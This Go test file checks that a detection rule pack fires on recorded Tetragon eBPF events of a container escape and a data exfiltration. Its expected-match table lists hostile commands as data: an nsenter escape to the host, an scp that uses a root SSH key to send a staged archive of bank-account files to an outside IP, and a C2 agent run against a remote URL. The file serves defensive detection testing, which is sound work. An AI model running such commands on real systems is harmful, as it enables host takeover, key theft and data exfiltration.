package rulepack_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/decode"
	"github.com/cairn-cdr/cairn/falco"
	"github.com/cairn-cdr/cairn/proctree"
)

// tetragonDir holds real Tetragon events from "Security Observability with
// eBPF" (third-party data, never copied into the repository).
var tetragonDir = filepath.Join("..", "..", "shared", "corpus", "tetragon", "03_chapter", "03_security_observability_events")

// TestTetragonCorpus runs the pack over the real Tetragon events of a
// privileged pod escaping to the host with nsenter and of a merlin agent
// staging and copying data out over scp/ssh.
func TestTetragonCorpus(t *testing.T) {
	if _, err := os.Stat(tetragonDir); err != nil {
		t.Skipf("Tetragon corpus not found at %s (../shared/corpus): %v", tetragonDir, err)
	}
	files, err := filepath.Glob(filepath.Join(tetragonDir, "*", "*.json"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no Tetragon files: %v", err)
	}
	// The files are one event each; order them by time, enrich them with
	// the process table as ingest does, then evaluate.
	var evs []cairn.Event
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		c := mustDecodeBytes(t, data, f)
		evs = append(evs, c.Events...)
	}
	slices.SortStableFunc(evs, func(a, b cairn.Event) int { return a.Time.Compare(b.Time) })
	tree := proctree.New(proctree.Options{})
	eng := falco.NewEngine(load(t).Rules)
	fired := map[string][]string{} // rule → commands
	for i := range evs {
		tree.Observe(&evs[i])
		tree.Enrich(&evs[i])
		for _, m := range eng.Eval(&evs[i]) {
			fired[m.Rule.Name] = append(fired[m.Rule.Name], evs[i].Process.Cmdline())
		}
	}
	for rule, cmd := range map[string]string{
		"Container Escape via nsenter":                 "nsenter -t 1 -m -u -n -i -p bash",
		"Remote Copy from Container":                   "scp -i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~",
		"Outbound SSH from Container":                  "ssh -x",
		"Data Archived in Container":                   "a s3nsitiv3.7z ../ops_bank_accounts/",
		"Shell Spawned by Program from Temp Directory": `sh -c "7z a s3nsitiv3.7z ../ops_bank_accounts/"`,
		"Executable Run from Temp Directory":           "main -v -url https://main.linux-libs.org:443",
		"Read Sensitive File by Command":               "scp -i /root/.ssh/id_rsa",
	} {
		if !slices.ContainsFunc(fired[rule], func(c string) bool { return strings.Contains(c, cmd) }) {
			t.Errorf("%q did not fire on %q; it fired on %q", rule, cmd, fired[rule])
		}
	}
}

func mustDecodeBytes(t *testing.T, data []byte, origin string) *decode.Collector {
	t.Helper()
	var c decode.Collector
	if err := decode.Decode(t.Context(), bytes.NewReader(data), origin, decode.Tetragon, &c); err != nil || len(c.Rejects) > 0 {
		t.Fatalf("%s: %v %+v", origin, err, c.Rejects)
	}
	return &c
}
